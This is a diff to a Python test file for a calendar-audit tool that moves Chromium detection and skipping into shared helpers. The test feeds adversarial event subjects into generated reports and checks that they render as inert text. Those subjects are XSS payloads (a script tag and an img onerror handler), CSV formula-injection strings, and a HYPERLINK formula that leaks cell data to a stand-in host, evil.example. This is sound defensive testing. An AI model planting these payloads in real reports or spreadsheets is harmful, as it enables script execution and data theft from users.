@@ -5,24 +5,23 @@ from __future__ import annotations
 import csv
 import io
 import re
-import shutil
 import subprocess
 from datetime import date
 from html.parser import HTMLParser
 from pathlib import Path
 
-import pytest
 from openpyxl import load_workbook
 from rich.console import Console
 
 from calendar_audit.cli import main
 from calendar_audit.commands.options import Context
+from tests.conftest import chromium_path, need
 
 SCRIPT = "<script>document.title='PWNED-script'</script>"
 IMG = "<img src=x onerror=\"document.title='PWNED-img'\">"
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
 SUBJECTS = [SCRIPT, IMG, FORMULA, "+SUM(1,2)", "-2+3", "@cmd"]
-CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+CHROMIUM = chromium_path()
 
 
 class Elements(HTMLParser):
@@ -62,8 +61,8 @@ def report(tmp_path: Path) -> Path:
     return out
 
 
-@pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed")
 def test_adversarial_subjects_render_as_text_in_a_headless_browser(tmp_path: Path) -> None:
+    need("chromium", CHROMIUM is not None)
     out = report(tmp_path)
     html = (out / "report.html").read_text(encoding="utf-8")
     assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)  # nothing external to load
